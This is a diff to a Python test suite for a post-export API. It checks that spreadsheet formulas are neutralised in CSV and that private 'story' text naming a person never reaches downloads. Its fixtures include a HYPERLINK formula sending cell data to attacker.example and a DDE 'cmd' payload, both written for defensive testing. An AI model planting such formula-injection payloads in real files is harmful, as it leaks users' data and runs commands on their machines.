@@ -37,6 +37,9 @@ FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for prize")'
 PLUS_FORMULA = "+cmd|' /C calc'!A0"
 SECRET_COMMENT = "H4-secret-comment-text-that-must-never-be-downloaded"
 SECRET_AUTHOR = "h4pseudonym0123456789abcdef"
+#: What a source may say of a post beyond the common fields: a published key, and one that can name a
+#: person other than the account (Facebook's ``story``), which no download may give.
+HOSTILE_EXTRA = {"title": "=Budget briefing", "story": "h4-private-person is with Chan Tai Man."}
 NEGATIVE = -2.5
 FORMATS = ("csv", "json", "parquet")
 BOM = "\ufeff"
@@ -57,7 +60,7 @@ def _add_hostile_rows(url: str) -> None:
         post = t.Post(
             account_id=account.id, platform=account.platform, post_id="h4-hostile-post", created_at=now,
             format="text", text=PLUS_FORMULA, url="https://example.org/p/h4", source="test",
-            first_seen_at=now, last_seen_at=now, content_hash="h4",
+            first_seen_at=now, last_seen_at=now, content_hash="h4", extra=HOSTILE_EXTRA,
         )  # fmt: skip
         session.add(post)
         session.flush()
@@ -252,6 +255,20 @@ def test_formulas_are_neutralised_in_csv_only(api: TestClient) -> None:
     assert post["text"] == "'" + PLUS_FORMULA
     posts = json.loads(_download(api, "posts", "json"))["data"]
     assert [p["text"] for p in posts if p["platform_post_id"] == "h4-hostile-post"] == [PLUS_FORMULA]
+
+
+def test_posts_give_the_published_part_of_extra_in_every_format(api: TestClient) -> None:
+    post = _rows_by(api, "posts", "platform_post_id")["h4-hostile-post"]
+    assert json.loads(post["extra"]) == {"title": "=Budget briefing"}  # JSON text: never a formula
+    posts = json.loads(_download(api, "posts", "json"))["data"]
+    assert [json.loads(p["extra"]) for p in posts if p["platform_post_id"] == "h4-hostile-post"] == [
+        {"title": "=Budget briefing"}
+    ]
+    assert {p["extra"] for p in posts if p["platform_post_id"] != "h4-hostile-post"} == {None}
+    for fmt in FORMATS:
+        content = _download(api, "posts", fmt)
+        text = str(pq.read_table(io.BytesIO(content)).to_pylist()) if fmt == "parquet" else content.decode()
+        assert "h4-private-person" not in text and "story" not in text, fmt
 
 
 def test_numbers_stay_numbers(api: TestClient) -> None:
